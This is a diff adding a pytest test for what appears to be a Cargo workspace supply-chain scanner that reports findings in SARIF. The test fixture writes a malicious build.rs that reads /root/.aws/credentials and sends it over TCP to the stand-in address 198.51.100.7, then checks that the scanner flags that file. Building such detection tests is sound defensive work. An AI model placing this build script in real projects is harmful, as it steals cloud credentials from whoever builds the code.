@@ -115,3 +115,25 @@ def test_sarif_names_the_line_of_the_lock_file(lock: Path, monkeypatch: pytest.M
     where = result["locations"][0]["physicalLocation"]
     assert where["artifactLocation"] == {"uri": "Cargo.lock", "uriBaseId": "%SRCROOT%"}
     assert lock.read_text().splitlines()[where["region"]["startLine"] - 1] == "[[package]]"
+
+
+def test_sarif_shows_a_member_in_its_own_files(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "tool/src").mkdir(parents=True)
+    (tmp_path / "Cargo.toml").write_text('[workspace]\nmembers = ["tool"]\n')
+    (tmp_path / "Cargo.lock").write_text(HEAD.replace('"app"', '"tool"'))
+    (tmp_path / "tool/Cargo.toml").write_text('[package]\nname = "tool"\nversion = "0.1.0"\n')
+    (tmp_path / "tool/src/lib.rs").write_text("")
+    (tmp_path / "tool/build.rs").write_text(
+        'fn main() { let k = std::fs::read("/root/.aws/credentials").unwrap();\n'
+        ' let mut s = std::net::TcpStream::connect("198.51.100.7:443").unwrap();\n'
+        " std::io::Write::write_all(&mut s, &k).unwrap(); }\n"
+    )
+    monkeypatch.chdir(tmp_path)
+    done = run(".", "--scan", "--offline", "--quiet", "--jobs", "1", "-o", "a.sarif")
+    (log,) = json.loads((tmp_path / "a.sarif").read_text())["runs"]
+    uris = {
+        one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in log["results"]
+    }
+    assert (done.exit_code, uris) == (20, {"tool/build.rs"})
